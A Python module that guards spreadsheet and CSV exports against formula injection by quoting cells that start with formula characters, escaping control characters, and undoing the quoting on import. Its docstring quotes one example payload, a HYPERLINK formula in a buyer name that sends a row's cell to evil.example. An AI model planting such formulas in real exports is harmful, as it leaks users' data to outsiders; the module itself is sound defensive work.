"""Formula injection (OWASP "CSV injection"): text that a spreadsheet program would run.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
for a formula by Excel, LibreOffice or WPS when the file is opened; a buyer named
``=HYPERLINK("http://evil.example/?leak="&K2,"Click")`` would then send the cell K2 of the row
to a stranger with one click. Every sheet and CSV the hub writes passes its text through
:func:`formula_safe`, which puts a single quote in front; numbers stay numbers. Readers take
the quote off again (:func:`unquoted`), so exporting and importing gives back the same text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# Quotes already in front are counted in, so formula_safe and unquoted are exact inverses. A
# line feed is included because XML turns a carriage return in an .xlsx cell into one.
_TRIGGER = re.compile(r"'*[=+\-@\t\r\n]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r\n]")
# What openpyxl refuses in a cell (openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE): C0 controls but
# tab, line feed and carriage return.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_safe(value: Any) -> Any:
    """The value to write: text that could start a formula gets a leading single quote."""
    if isinstance(value, str) and _TRIGGER.match(value):
        return "'" + value
    return value


def formula_safe_row(values: Iterable[Any]) -> list[Any]:
    return [formula_safe(v) for v in values]


def sheet_safe(value: Any) -> Any:
    """What an .xlsx cell may hold: no formula (formula_safe), and the control characters a
    worksheet cannot hold (XML 1.0 refuses them) shown as ``\\xNN``. Stored text such as an
    audited request's detail may carry them, and openpyxl would refuse the whole file."""
    if isinstance(value, str) and _ILLEGAL.search(value):
        value = _ILLEGAL.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    return formula_safe(value)


def sheet_safe_row(values: Iterable[Any]) -> list[Any]:
    return [sheet_safe(v) for v in values]


def unquoted(value: Any) -> Any:
    """The text a neutralised cell stood for (one quote less); other values as they are."""
    if isinstance(value, str) and _NEUTRALISED.match(value):
        return value[1:]
    return value
